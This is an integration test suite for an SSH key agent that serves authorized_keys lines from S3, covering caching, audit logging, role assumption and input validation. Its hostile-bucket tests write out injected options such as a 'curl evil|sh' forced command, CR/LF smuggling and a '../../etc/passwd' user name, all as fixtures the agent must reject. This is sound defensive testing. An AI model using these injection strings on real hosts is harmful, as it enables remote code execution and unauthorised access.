// The BUILT agent (dist/iam-authorized-keys, built by test/global-setup.ts; with
// IAK_E2E_AGENT=standalone the standalone executable, on a host without node) as
// a child process against a real moto_server: S3 over HTTP, STS AssumeRole,
// the cache on disk, a real logger(1) writing to a unix datagram socket.
import { spawnSync } from 'node:child_process';
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CreateBucketCommand, DeleteObjectCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type DirectoryUser, directoryKey, heartbeatKey } from '../../../contract/directory.js';
import { groupKey, userKey } from '../../../contract/layout.js';
import { renderLine } from '../../../contract/line.js';
import { AGENT_KIND, STANDALONE_NAME } from '../../../dev/agent-kind.js';
import { type AwsProxy, startAwsProxy } from '../../../dev/aws-proxy.js';
import { agentEnv } from '../../../dev/host.js';
import { makeKey } from '../../../dev/keys.js';
import { listenLoopback } from '../../../dev/loopback.js';
import { freePort, type Moto, startMoto, TEST_CREDENTIALS, TEST_REGION } from '../../../dev/moto.js';
import { asPublished } from '../../../dev/s3-objects.js';
import { type SyslogSink, startSyslogSink } from '../../../dev/syslog-sink.js';
import { cacheFileName, decodeEntry, encodeEntry } from '../../../host-agent/cache.js';
import { lockFileName } from '../../../host-agent/fetch-lock.js';
import {
  type AgentRun,
  runAgent as runAgentAt,
  writeConfig as writeConfigFile,
} from '../../helpers/agent.js';
import { directoryJson, heartbeatJson } from '../../helpers/index-fixture.js';

const ROOT = new URL('../../..', import.meta.url).pathname;
const BUCKET = 'ssh-keys';
const PREFIX = 'keys/';

let moto: Moto;
let s3: S3Client;
let agent: string;
let work: string;

const alice = makeKey();
const alice2 = makeKey('ecdsa');
const bob = makeKey('rsa');
const carol = makeKey();
const aliceLines = renderLine('alice', alice) + renderLine('alice', alice2);
const bobLine = renderLine('bob+ops@example.com', bob);
const carolLine = renderLine('carol', carol);

/** The agent with what sshd gives an AuthorizedKeysCommand, plus the explicit AWS_* wrapper of docs/host-agent.md. */
function runAgent(args: string[], env: Record<string, string> = {}): Promise<AgentRun> {
  return runAgentAt(agent, args, { ...agentEnv(work, moto.endpoint), ...env });
}

// The local accounts the agent sees (passwdFile): as sync-users would create them, with published uids.
const PASSWD_UIDS: Record<string, number> = { alice: 2000, 'bob+ops@example.com': 2001, carol: 2002 };
const PASSWD = [
  'root:x:0:0:root:/root:/bin/sh',
  'alice:x:2000:2000::/home/alice:/bin/sh',
  'bob.plus.ops.at.example.com:x:2001:2001::/home/bob:/bin/sh',
  'carol:x:2002:2002::/home/carol:/bin/sh',
  '',
].join('\n');

let configN = 0;
function writeConfig(extra: Record<string, unknown>, cacheDir?: string): { path: string; cacheDir: string } {
  const dir = cacheDir ?? join(work, `cache-${++configN}`);
  const path = writeConfigFile(join(work, `config-${++configN}.json`), {
    bucket: BUCKET,
    prefix: PREFIX,
    region: TEST_REGION,
    cache: { dir, ttlSeconds: 300, maxStaleSeconds: 3600 },
    passwdFile: join(work, 'passwd'),
    ...extra,
  });
  return { path, cacheDir: dir };
}

async function put(key: string, body: string | Buffer): Promise<void> {
  await s3.send(new PutObjectCommand(asPublished(BUCKET, key, body)));
}

const USERS: Record<string, Partial<DirectoryUser>> = {
  alice: { localName: 'alice', groups: ['Admins', 'Developers'] },
  'bob+ops@example.com': { localName: 'bob.plus.ops.at.example.com', groups: ['Admins'] },
  carol: { localName: 'carol', groups: [] },
};

/** directory.json with the uids of the local accounts in PASSWD (as sync-users creates them). */
function directoryFor(users: Record<string, Partial<DirectoryUser>>): string {
  return directoryJson(
    Object.entries(users).map(([n, u]): [string, Partial<DirectoryUser>] => [
      n,
      { ...(PASSWD_UIDS[n] ? { uid: PASSWD_UIDS[n] } : {}), ...u },
    ]),
    { firstUid: 2100 },
  );
}

/** What the publisher writes for hosts: directory.json, then heartbeat.json. */
async function publishDirectory(
  users: Record<string, Partial<DirectoryUser>>,
  generatedAt = new Date().toISOString(),
): Promise<void> {
  await put(directoryKey(PREFIX), directoryFor(users));
  await put(heartbeatKey(PREFIX), heartbeatJson(generatedAt));
}

/** Makes every cache entry `seconds` older, as if that much time had passed. */
function ageCache(dir: string, seconds: number): void {
  for (const name of readdirSync(dir).filter((n) => n.startsWith('o-') || n.startsWith('h-'))) {
    const buf = readFileSync(join(dir, name));
    const key = JSON.parse(buf.subarray(0, buf.indexOf(10)).toString()).key;
    const e = decodeEntry(buf, key);
    if (typeof e === 'string') throw new Error(e);
    writeFileSync(join(dir, name), encodeEntry({ ...e, fetchedAt: e.fetchedAt - seconds * 1000 }), {
      mode: 0o600,
    });
  }
}

/** A TCP port that accepts connections and never answers. */
async function blackhole(): Promise<{ url: string; server: Server }> {
  // Accepts and never answers. A client that gives up may reset the connection (Bun's fetch does).
  const server = createServer((socket) => socket.on('error', () => {}));
  return { url: (await listenLoopback(server)).endpoint, server };
}

beforeAll(async () => {
  moto = await startMoto();
  s3 = new S3Client({
    region: TEST_REGION,
    endpoint: moto.endpoint,
    forcePathStyle: true,
    credentials: TEST_CREDENTIALS,
  });
  work = mkdtempSync(join(tmpdir(), 'iak-int-'));
  writeFileSync(join(work, 'passwd'), PASSWD);
  // Run the bundle from outside the repo, as installed on a host.
  agent = join(work, 'iam-authorized-keys');
  copyFileSync(
    join(ROOT, 'dist', AGENT_KIND === 'standalone' ? STANDALONE_NAME : 'iam-authorized-keys'),
    agent,
  );
  statSync(agent);
});

afterAll(async () => {
  await moto?.stop();
});

beforeEach(async () => {
  await moto.reset();
  await s3.send(new CreateBucketCommand({ Bucket: BUCKET }));
  await put(userKey(PREFIX, 'alice'), aliceLines);
  await put(userKey(PREFIX, 'bob+ops@example.com'), bobLine);
  await put(userKey(PREFIX, 'carol'), carolLine);
  await put(groupKey(PREFIX, 'Admins'), renderLine('alice', alice) + bobLine);
  await publishDirectory(USERS);
});

describe('users map', () => {
  it('prints the principals’ lines, deduplicated, and exits 0', async () => {
    const { path } = writeConfig({ users: { 'ec2-user': ['groups/Admins', 'users/alice', 'users/nobody'] } });
    const r = await runAgent(['--config', path, 'ec2-user']);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(renderLine('alice', alice) + bobLine + renderLine('alice', alice2));
    expect(r.stderr).toMatch(/unknown principal users\/nobody/);
  });

  it('answers an unmapped user with nothing, without the network', async () => {
    const { path } = writeConfig({ users: { 'ec2-user': ['users/alice'] } });
    const r = await runAgent(['--config', path, 'root', alice.fingerprint], {
      AWS_ENDPOINT_URL_S3: `http://127.0.0.1:${await freePort()}`,
    });
    expect(r).toEqual({ code: 0, stdout: '', stderr: '' });
  });

  it('works with endpoint in the config and no AWS_ENDPOINT_URL_S3', async () => {
    const { path } = writeConfig({ users: { u: ['users/carol'] }, endpoint: moto.endpoint });
    const r = await runAgent(['--config', path, 'u'], { AWS_ENDPOINT_URL_S3: '' });
    expect(r.stdout).toBe(carolLine);
  });

  it('reads credentials from a shared credentials file profile', async () => {
    const creds = join(work, 'credentials');
    writeFileSync(creds, `[reader]\naws_access_key_id = AKIAPROFILE\naws_secret_access_key = s3cr3t\n`, {
      mode: 0o600,
    });
    const { path } = writeConfig({ users: { u: ['users/carol'] } });
    const r = await runAgent(['--config', path, 'u'], {
      AWS_ACCESS_KEY_ID: '',
      AWS_SECRET_ACCESS_KEY: '',
      AWS_SHARED_CREDENTIALS_FILE: creds,
      AWS_PROFILE: 'reader',
    });
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(carolLine);
  });

  it('fails closed without any credentials', async () => {
    const { path } = writeConfig({ users: { u: ['users/carol'] } });
    const r = await runAgent(['--config', path, 'u'], { AWS_ACCESS_KEY_ID: '', AWS_SECRET_ACCESS_KEY: '' });
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/no AWS credentials/);
  });

  it('fails closed on a missing bucket (not "unknown principal")', async () => {
    const { path } = writeConfig({ users: { u: ['users/carol'] }, bucket: 'no-such-bucket' });
    const r = await runAgent(['--config', path, 'u']);
    expect(r).toMatchObject({ code: 1, stdout: '' });
    expect(r.stderr).toMatch(/404 NoSuchBucket/);
  });
});

describe('fingerprint and audit', () => {
  let sink: SyslogSink;
  let socket: string;
  let seen = 0;
  /** Datagrams received since the last call. */
  const fresh = () => {
    const all = sink.lines();
    const out = all.slice(seen);
    seen = all.length;
    return out;
  };
  beforeAll(async () => {
    sink = await startSyslogSink(work);
    socket = sink.socket;
  });
  afterAll(() => {
    sink?.stop();
  });

  it('prints only the key with that fingerprint and writes one audit line to syslog', async () => {
    fresh();
    const { path } = writeConfig({
      users: { 'ec2-user': ['groups/Admins', 'users/alice'] },
      syslogSocket: socket,
    });
    const r = await runAgent(['--config', path, 'ec2-user', alice.fingerprint]);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(renderLine('alice', alice));
    // logger runs detached and may write after the agent has exited: wait until it has, and all it sent arrived.
    await sink.settled();
    const messages = fresh();
    expect(messages).toHaveLength(1);
    expect(messages[0]).toMatch(/^<86>.*iam-authorized-keys(\[\d+\])?: /); // authpriv.info = 10*8+6
    expect(messages[0]).toContain(
      `key-matched user=ec2-user fingerprint=${alice.fingerprint} owner=alice principal=groups/Admins,users/alice source=s3,s3`,
    );
    // The second login attempt is served from the cache, and says so.
    const again = await runAgent(['--config', path, 'ec2-user', alice.fingerprint]);
    expect(again.stdout).toBe(renderLine('alice', alice));
    await sink.settled();
    const second = fresh();
    expect(second).toHaveLength(1);
    expect(second[0]).toContain('source=cache,cache');
  });

  it('still serves the key when syslog is unreachable, with the audit line on stderr', async () => {
    const { path } = writeConfig({ users: { u: ['users/alice'] }, syslogSocket: join(work, 'nope.sock') });
    const r = await runAgent(['--config', path, 'u', alice2.fingerprint]);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(renderLine('alice', alice2));
    expect(r.stderr).toMatch(/audit log not written/);
    expect(r.stderr).toMatch(/audit: key-matched user=u .*owner=alice/);
  });
});

describe('iamUsers mode', () => {
  it('maps a local name to its IAM user through directory.json', async () => {
    const { path } = writeConfig({ iamUsers: { allowGroups: [] } });
    const r = await runAgent(['--config', path, 'bob.plus.ops.at.example.com']);
    expect(r.stdout).toBe(bobLine);
  });

  it('gates by allowGroups', async () => {
    const { path } = writeConfig({ iamUsers: { allowGroups: ['Developers'] } });
    expect((await runAgent(['--config', path, 'alice'])).stdout).toBe(aliceLines);
    const carolR = await runAgent(['--config', path, 'carol']);
    expect(carolR).toMatchObject({ code: 0, stdout: '' });
    expect(carolR.stderr).toMatch(/carol is in none of iamUsers.allowGroups/);
  });

  it('ignores an index entry whose localName does not match the IAM name', async () => {
    await publishDirectory({ carol: { localName: 'root', groups: [] } });
    const { path } = writeConfig({ iamUsers: { allowGroups: [] } });
    const r = await runAgent(['--config', path, 'root']);
    expect(r).toMatchObject({ code: 0, stdout: '' });
  });

  it('never maps an IAM user named after an existing account (root, uid 0) onto it', async () => {
    const rootKey = makeKey();
    await publishDirectory({ root: { localName: 'root', groups: [] } });
    await put(userKey(PREFIX, 'root'), renderLine('root', rootKey));
    const { path } = writeConfig({ iamUsers: { allowGroups: [] } });
    const r = await runAgent(['--config', path, 'root']);
    expect(r).toMatchObject({ code: 0, stdout: '' });
    expect(r.stderr).toMatch(/local account root has uid 0, not the published uid \d+: not mapped/);
  });

  it('warns on stderr when the publisher heartbeat is old', async () => {
    await publishDirectory({ carol: { localName: 'carol' } }, '2020-01-01T00:00:00Z');
    const { path } = writeConfig({ iamUsers: { allowGroups: [] } });
    const r = await runAgent(['--config', path, 'carol']);
    expect(r.stdout).toBe(carolLine);
    expect(r.stderr).toMatch(/the publisher's last run was \d+s ago \(publisher stopped\?\)/);
  });

  it('exits 1 with nothing printed when directory.json is over 8 MiB (not "unknown principal", not exit 0)', async () => {
    await put(directoryKey(PREFIX), Buffer.alloc(8 * 1024 * 1024 + 1, 0x20));
    const { path } = writeConfig({ iamUsers: { allowGroups: [] }, users: { carol: ['users/carol'] } });
    const r = await runAgent(['--config', path, 'carol']);
    expect(r).toMatchObject({ code: 1, stdout: '' });
    expect(r.stderr).toMatch(/cannot decide: object of 8388609 bytes is over the 8388608-byte limit/);
  });

  it('exits 1 when directory.json is missing (an agent newer than the publisher), and reads no index.json', async () => {
    await s3.send(new DeleteObjectCommand({ Bucket: BUCKET, Key: directoryKey(PREFIX) }));
    const { path } = writeConfig({ iamUsers: { allowGroups: [] } });
    const r = await runAgent(['--config', path, 'carol']);
    expect(r).toMatchObject({ code: 1, stdout: '' });
    expect(r.stderr).toMatch(/directory.json not found .*upgrade the publisher first/);
  });

  describe('revalidation through a counting proxy', () => {
    let proxy: AwsProxy;
    beforeAll(async () => {
      proxy = await startAwsProxy(moto.endpoint);
    });
    afterAll(async () => {
      await proxy?.stop();
    });
    const gets = (name: string) =>
      proxy.requests.filter((r) => r.action === 'GetObject' && r.path.split('?')[0]?.endsWith(name));

    it('an expired directory.json is revalidated with If-None-Match: 304, no body, and fresh again', async () => {
      const { path, cacheDir } = writeConfig({ iamUsers: { allowGroups: [] } });
      const env = { AWS_ENDPOINT_URL_S3: proxy.endpoint };
      proxy.clear();
      expect((await runAgent(['--config', path, 'carol'], env)).stdout).toBe(carolLine);
      expect(gets('directory.json').map((r) => r.status)).toEqual([200]);
      // The publisher ran again: a new heartbeat, the directory unchanged (not rewritten).
      await put(heartbeatKey(PREFIX), heartbeatJson(new Date().toISOString()));
      ageCache(cacheDir, 301);
      proxy.clear();
      expect((await runAgent(['--config', path, 'carol'], env)).stdout).toBe(carolLine);
      expect(gets('directory.json').map((r) => [r.status, r.responseBytes])).toEqual([[304, 0]]);
      expect(gets('heartbeat.json').map((r) => r.status)).toEqual([200]);
      // The 304 made the entry fresh: the next login reads nothing from S3.
      proxy.clear();
      expect((await runAgent(['--config', path, 'carol'], env)).stdout).toBe(carolLine);
      expect(proxy.requests.filter((r) => r.action === 'GetObject')).toEqual([]);
    });
  });
});

describe('cache', () => {
  it('fresh: answers from the cache with S3 unreachable, and writes 0600 files in a 0700 dir', async () => {
    const { path, cacheDir } = writeConfig({ users: { u: ['users/alice'] } });
    expect((await runAgent(['--config', path, 'u'])).stdout).toBe(aliceLines);
    expect(statSync(cacheDir).mode & 0o777).toBe(0o700);
    for (const f of readdirSync(cacheDir)) expect(statSync(join(cacheDir, f)).mode & 0o777).toBe(0o600);
    const r = await runAgent(['--config', path, 'u'], {
      AWS_ENDPOINT_URL_S3: `http://127.0.0.1:${await freePort()}`,
    });
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(aliceLines);
    expect(r.stderr).toMatch(/source cache/);
  });

  it.each([
    'AWS_ENDPOINT_URL_S3',
    'AWS_ENDPOINT_URL',
    'AWS_ENDPOINT_URL_STS',
    'AWS_EC2_METADATA_SERVICE_ENDPOINT',
  ])(
    'an endpoint in %s that is plain http to a remote host: refused at start, even with a fresh cache',
    async (name) => {
      const { path } = writeConfig({ users: { u: ['users/alice'] } });
      expect((await runAgent(['--config', path, 'u'])).stdout).toBe(aliceLines);
      const r = await runAgent(['--config', path, 'u'], { [name]: 'http://s3.evil.example' });
      expect(r).toEqual({
        code: 2,
        stdout: '',
        stderr: expect.stringMatching(new RegExp(`^iam-authorized-keys: ${name} must be https://`)),
      });
    },
  );

  it('a fresh hit loads neither node:crypto nor network code, with or without FINGERPRINT (standalone: ignores NODE_OPTIONS)', async () => {
    // The hit path is every login's start-up: the cache keeps validated lines with their fingerprints.
    const { path } = writeConfig({ users: { u: ['users/alice'] } });
    expect((await runAgent(['--config', path, 'u'])).stdout).toBe(aliceLines);
    const preload = join(work, 'modules.cjs');
    writeFileSync(
      preload,
      "process.on('exit', () => require('fs').writeSync(2, 'MODULES ' + process.moduleLoadList.join(',') + '\\n'));",
    );
    for (const [args, out] of [
      [['u'], aliceLines],
      [['u', alice2.fingerprint], renderLine('alice', alice2)],
    ] as const) {
      const r = await runAgent(['--config', path, ...args], { NODE_OPTIONS: `--require ${preload}` });
      expect(r.stdout).toBe(out);
      if (AGENT_KIND === 'standalone') {
        // Not node: NODE_OPTIONS (and so a --require of someone's code) means nothing to it.
        expect(r.stderr).not.toMatch(/MODULES/);
        continue;
      }
      const modules = /MODULES (.*)/.exec(r.stderr)?.[1]?.split(',') ?? [];
      expect(modules).toContain('NativeModule fs');
      expect(modules.filter((m) => /crypto|http|tls/.test(m))).toEqual([]);
    }
  });

  it('a fresh hit on the standalone branches runs no regular expression, whatever the config sets (standalone: ignores NODE_OPTIONS)', async () => {
    // Under Bun the first regular expressions cost a hit ~0.8 MiB of the runtime's regex JIT
    // (contract/charset.ts). Every setting a hit reads is here: prefix, endpoint, roleArn, chain, audit.
    const chained = join(work, 'chain-empty.sh');
    writeFileSync(chained, '#!/bin/sh\nexit 0\n', { mode: 0o755 });
    const { path } = writeConfig({
      users: { u: ['users/alice', 'groups/Admins'] },
      endpoint: moto.endpoint,
      roleArn: 'arn:aws:iam::123456789012:role/ssh-key-reader',
      chain: `${chained} --user=%u --fp=%f 100%%`,
    });
    const env = { AWS_ENDPOINT_URL_S3: '', AWS_ENDPOINT_URL_STS: moto.endpoint };
    expect((await runAgent(['--config', path, 'u'], env)).stdout).toBe(aliceLines + bobLine);
    const preload = join(work, 'regexps.cjs');
    writeFileSync(
      preload,
      [
        // A Bun global makes node take the standalone's branches (host-agent/derived.ts UNDER_BUN).
        'globalThis.Bun = {};',
        'const seen = new Set(); const exec = RegExp.prototype.exec;',
        'RegExp.prototype.exec = function (...a) { seen.add(this.source); return exec.apply(this, a); };',
        "process.on('exit', () => require('fs').writeSync(2, 'REGEXPS ' + JSON.stringify([...seen]) + '\\n'));",
      ].join('\n'),
    );
    for (const [args, out] of [
      [['u'], aliceLines + bobLine],
      [['u', alice2.fingerprint], renderLine('alice', alice2)],
    ] as const) {
      const r = await runAgent(['--config', path, ...args], { ...env, NODE_OPTIONS: `--require ${preload}` });
      expect(r.stdout).toBe(out);
      if (args.length === 1) expect(r.stderr).toMatch(/source cache/);
      if (AGENT_KIND === 'standalone') {
        expect(r.stderr).not.toMatch(/REGEXPS/);
        continue;
      }
      expect(/REGEXPS (.*)/.exec(r.stderr)?.[1]).toBe('[]');
    }
  });

  it('stale: serves the old copy when S3 is down, within maxStaleSeconds, and says so', async () => {
    const { path, cacheDir } = writeConfig({ users: { u: ['users/alice'] } });
    await runAgent(['--config', path, 'u']);
    ageCache(cacheDir, 600);
    const r = await runAgent(['--config', path, 'u'], {
      AWS_ENDPOINT_URL_S3: `http://127.0.0.1:${await freePort()}`,
    });
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(aliceLines);
    expect(r.stderr).toMatch(/S3 unavailable .*ECONNREFUSED.*serving the cached copy from 60\ds ago/);
  });

  it('stale with a hanging S3: the deadline cuts it short and the cache answers', async () => {
    const hole = await blackhole();
    try {
      const { path, cacheDir } = writeConfig({ users: { u: ['users/alice'] }, deadlineMs: 300 });
      await runAgent(['--config', path, 'u']);
      ageCache(cacheDir, 600);
      const r = await runAgent(['--config', path, 'u'], { AWS_ENDPOINT_URL_S3: hole.url });
      expect(r.code).toBe(0);
      expect(r.stdout).toBe(aliceLines);
      expect(r.stderr).toMatch(/deadline reached/);
    } finally {
      hole.server.close();
    }
  });

  it('beyond maxStaleSeconds: fails closed, nothing printed', async () => {
    const { path, cacheDir } = writeConfig({ users: { u: ['users/alice'] } });
    await runAgent(['--config', path, 'u']);
    ageCache(cacheDir, 3601);
    const r = await runAgent(['--config', path, 'u'], {
      AWS_ENDPOINT_URL_S3: `http://127.0.0.1:${await freePort()}`,
    });
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/cannot decide: .*past maxStaleSeconds/);
  });

  it('no cache and S3 hanging: exits non-zero at the deadline with nothing printed', async () => {
    const hole = await blackhole();
    try {
      const { path } = writeConfig({ users: { u: ['users/alice'] }, deadlineMs: 300 });
      const r = await runAgent(['--config', path, 'u'], { AWS_ENDPOINT_URL_S3: hole.url });
      expect(r).toMatchObject({ code: 1, stdout: '' });
    } finally {
      hole.server.close();
    }
  });

  it('a stale copy revalidated against S3 picks up changes and deletions', async () => {
    const { path, cacheDir } = writeConfig({ users: { u: ['users/alice', 'users/carol'] } });
    expect((await runAgent(['--config', path, 'u'])).stdout).toBe(aliceLines + carolLine);
    await put(userKey(PREFIX, 'alice'), renderLine('alice', alice));
    await s3.send(new DeleteObjectCommand({ Bucket: BUCKET, Key: userKey(PREFIX, 'carol') }));
    // Still fresh: the old answer stands until ttl.
    expect((await runAgent(['--config', path, 'u'])).stdout).toBe(aliceLines + carolLine);
    ageCache(cacheDir, 301);
    expect((await runAgent(['--config', path, 'u'])).stdout).toBe(renderLine('alice', alice));
  });

  it('ttlSeconds 0: no cache files, always S3', async () => {
    const { path, cacheDir } = writeConfig({ users: { u: ['users/alice'] } });
    writeFileSync(
      path,
      JSON.stringify({
        bucket: BUCKET,
        prefix: PREFIX,
        region: TEST_REGION,
        users: { u: ['users/alice'] },
        cache: { dir: cacheDir, ttlSeconds: 0 },
      }),
    );
    expect((await runAgent(['--config', path, 'u'])).stdout).toBe(aliceLines);
    expect(() => readdirSync(cacheDir)).toThrow(/ENOENT/);
  });
});

describe('hostile bucket contents', () => {
  it('drops injected options, CR/LF tricks and wrong owners, prints only valid lines', async () => {
    const [t, b] = [carol.type, carol.blob];
    await put(
      groupKey(PREFIX, 'Evil'),
      [
        `command="/bin/sh -c 'curl evil|sh'",environment="SSH_KEY_OWNER=carol" ${t} ${b} carol`,
        `from="*" ${t} ${b} carol`,
        `environment="SSH_KEY_OWNER=carol" ${t} ${b} carol\r`,
        `environment="SSH_KEY_OWNER=carol" ${t} ${b} carol\rcommand="x" ${t} ${b} carol`,
        `environment="SSH_KEY_OWNER=carol",permitopen="*:*" ${t} ${b} carol`,
        carolLine.trimEnd(),
      ].join('\n'),
    );
    await put(userKey(PREFIX, 'dave'), carolLine); // carol's key in dave's object
    const { path } = writeConfig({ users: { u: ['groups/Evil', 'users/dave'] } });
    const r = await runAgent(['--config', path, 'u']);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(carolLine);
    expect(r.stderr.match(/groups\/Evil: dropped line/g)).toHaveLength(5);
    expect(r.stderr).toMatch(/users\/dave: dropped a key of carol/);
  });

  it('exits 1 with nothing printed on an object over 8 MiB (an error, never "no keys")', async () => {
    await put(groupKey(PREFIX, 'Huge'), Buffer.alloc(8 * 1024 * 1024 + 1, 0x41));
    const { path } = writeConfig({ users: { u: ['groups/Huge', 'users/carol'] } });
    const r = await runAgent(['--config', path, 'u']);
    expect(r).toMatchObject({ code: 1, stdout: '' });
    expect(r.stderr).toMatch(/cannot decide: object of 8388609 bytes is over the 8388608-byte limit/);
  });

  it('refuses a hostile USER before it reaches S3, the cache or a log line', async () => {
    const { path, cacheDir } = writeConfig({ users: { u: ['users/alice'] }, iamUsers: {} });
    const r = await runAgent(['--config', path, '../../etc/passwd']);
    expect(r).toMatchObject({ code: 2, stdout: '' });
    expect(r.stderr).toMatch(/invalid user name "..\/..\/etc\/passwd"/);
    expect(() => readdirSync(cacheDir)).toThrow(/ENOENT/);
  });
});

describe('roleArn (cross-account) through moto STS', () => {
  it('assumes the role, caches the credentials 0600 and reuses them', async () => {
    const { path, cacheDir } = writeConfig({
      users: { u: ['users/alice'] },
      roleArn: 'arn:aws:iam::123456789012:role/ssh-key-reader',
    });
    const r = await runAgent(['--config', path, 'u'], { AWS_ENDPOINT_URL_STS: moto.endpoint });
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(aliceLines);
    const sts = readdirSync(cacheDir).filter((f) => f.startsWith('sts-'));
    expect(sts).toHaveLength(1);
    expect(statSync(join(cacheDir, sts[0] as string)).mode & 0o777).toBe(0o600);
    const cached = JSON.parse(readFileSync(join(cacheDir, sts[0] as string), 'utf8'));
    expect(cached.accessKeyId).toMatch(/^ASIA/);
    // Object cache aged, STS unreachable: the cached role credentials sign the S3 request.
    ageCache(cacheDir, 301);
    const again = await runAgent(['--config', path, 'u'], {
      AWS_ENDPOINT_URL_STS: `http://127.0.0.1:${await freePort()}`,
    });
    expect(again.code).toBe(0);
    expect(again.stderr).toMatch(/source s3/);
  });

  it('fails closed when AssumeRole fails and nothing is cached', async () => {
    const { path } = writeConfig({
      users: { u: ['users/alice'] },
      roleArn: 'arn:aws:iam::123456789012:role/ssh-key-reader',
    });
    const r = await runAgent(['--config', path, 'u'], {
      AWS_ENDPOINT_URL_STS: `http://127.0.0.1:${await freePort()}`,
    });
    expect(r).toMatchObject({ code: 1, stdout: '' });
    expect(r.stderr).toMatch(/ECONNREFUSED/);
  });
});

describe('chain', () => {
  it('merges the chained command output after ours, with %u %f substituted', async () => {
    const script = join(work, 'eic.sh');
    writeFileSync(script, '#!/bin/sh\necho "chained-line user=$1 fp=$2"\n', { mode: 0o755 });
    const { path } = writeConfig({ users: { u: ['users/carol'] }, chain: [script, '%u', '%f'] });
    const r = await runAgent(['--config', path, 'u', carol.fingerprint], {});
    expect(r.stdout).toBe(`${carolLine}chained-line user=u fp=${carol.fingerprint}\n`);
  });

  it('a command-line chain is split as sshd splits it: quoted words stay whole, %f %u %% expand', async () => {
    const script = join(work, 'chain-argv.sh');
    writeFileSync(script, '#!/bin/sh\nprintf "chained-line"; printf " [%s]" "$@"; echo\n', { mode: 0o755 });
    const { path } = writeConfig({
      users: { u: ['users/carol'] },
      chain: `${script} "for %u" --fp='%f' 100%% a\\ b`,
    });
    const r = await runAgent(['--config', path, 'u', carol.fingerprint]);
    expect(r.stdout).toBe(`${carolLine}chained-line [for u] [--fp=${carol.fingerprint}] [100%] [a b]\n`);
  });

  it('a chain asking for a token sshd does not pass the agent (%k) is a config error: nothing printed', async () => {
    const { path } = writeConfig({ users: { u: ['users/carol'] }, chain: ['/bin/echo', '%u', '%k'] });
    const r = await runAgent(['--config', path, 'u', carol.fingerprint]);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/chain argument 2: %k \(the key itself\) cannot be given to a chained command/);
  });

  it('ignores a failing chained command and keeps our keys', async () => {
    const script = join(work, 'fail.sh');
    writeFileSync(script, '#!/bin/sh\necho should-not-appear; exit 1\n', { mode: 0o755 });
    const { path } = writeConfig({ users: { u: ['users/carol'] }, chain: script });
    const r = await runAgent(['--config', path, 'u']);
    expect(r).toMatchObject({ code: 0, stdout: carolLine });
    expect(r.stderr).toMatch(/chain command ignored: .*exited with 1/);
  });
});

describe('command line and config errors', () => {
  it.each([
    [[], /expected USER/],
    [['--bogus', 'u'], /unknown option/],
    [['--config', '/nonexistent.json', 'u'], /\/nonexistent.json: cannot read config \(ENOENT\)/],
  ])('%j exits 2 with one clear line', async (args, message) => {
    const r = await runAgent(args);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(message);
  });

  // FIPS wanted where it cannot be had: refused at start, before any request (the moto proxy sees none).
  it.each([
    [
      { region: 'eu-west-1', users: { u: ['users/alice'] } },
      { AWS_USE_FIPS_ENDPOINT: 'true', AWS_ENDPOINT_URL_S3: '' },
      /S3 has no FIPS endpoint in eu-west-1/,
    ],
    [
      { users: { u: ['users/alice'] } },
      { AWS_USE_FIPS_ENDPOINT: 'true' },
      /AWS_ENDPOINT_URL_S3 cannot be combined with useFipsEndpoint/,
    ],
    [
      { users: { u: ['users/alice'] } },
      { AWS_USE_FIPS_ENDPOINT: 'yes' },
      /AWS_USE_FIPS_ENDPOINT must be true or false, not "yes"/,
    ],
  ] as [Record<string, unknown>, Record<string, string>, RegExp][])(
    'config %j env %j: exits 2 with one clear line, nothing fetched',
    async (extra, env, message) => {
      const { path, cacheDir } = writeConfig(extra);
      const r = await runAgent(['--config', path, 'u'], env);
      expect(r).toMatchObject({ code: 2, stdout: '' });
      expect(r.stderr).toMatch(message);
      expect(existsSync(cacheDir) ? readdirSync(cacheDir) : []).toEqual([]);
    },
  );
});

describe('login storm: single flight through the cache dir', () => {
  // sshd runs the agent once per offered key, up to MaxStartups at a time. Every S3 GET goes
  // through the recording proxy, held 200 ms so that the invocations overlap as they do on EC2.
  let proxy: AwsProxy;
  const S3_DELAY_MS = 200;
  const PRINCIPALS = ['groups/Admins', 'users/alice', 'users/carol'];
  const OBJECTS = [groupKey(PREFIX, 'Admins'), userKey(PREFIX, 'alice'), userKey(PREFIX, 'carol')];
  const EXPECTED = renderLine('alice', alice) + bobLine + renderLine('alice', alice2) + carolLine;
  // A generous deadline where GETs are counted exactly: on a loaded 2-CPU machine, 100 starting
  // processes can starve the holder of CPU for seconds, and this process, which runs the proxy,
  // spends seconds spawning them (the holder's GET waits for that); a holder past its patience
  // (half the deadline) is taken over, one more GET. What is tested is the single flight, not the
  // timing (bench/storm.ts measures that with the default deadline and the proxy in its own process).
  const ROOMY = { deadlineMs: 10_000 };

  beforeAll(async () => {
    proxy = await startAwsProxy(moto.endpoint);
  });
  afterAll(async () => {
    await proxy?.stop();
  });
  beforeEach(() => {
    proxy.clear();
    proxy.options = { delay: (r) => (r.action === 'GetObject' ? S3_DELAY_MS : undefined) };
  });

  const viaProxy = () => ({ AWS_ENDPOINT_URL_S3: proxy.endpoint });
  const storm = (n: number, args: string[], env: Record<string, string> = viaProxy()) =>
    Promise.all(Array.from({ length: n }, () => runAgent(args, env)));
  /** S3 GetObject requests per object key. */
  const getsPerObject = () => {
    const counts: Record<string, number> = Object.fromEntries(OBJECTS.map((k) => [k, 0]));
    for (const r of proxy.requests.filter((q) => q.action === 'GetObject')) {
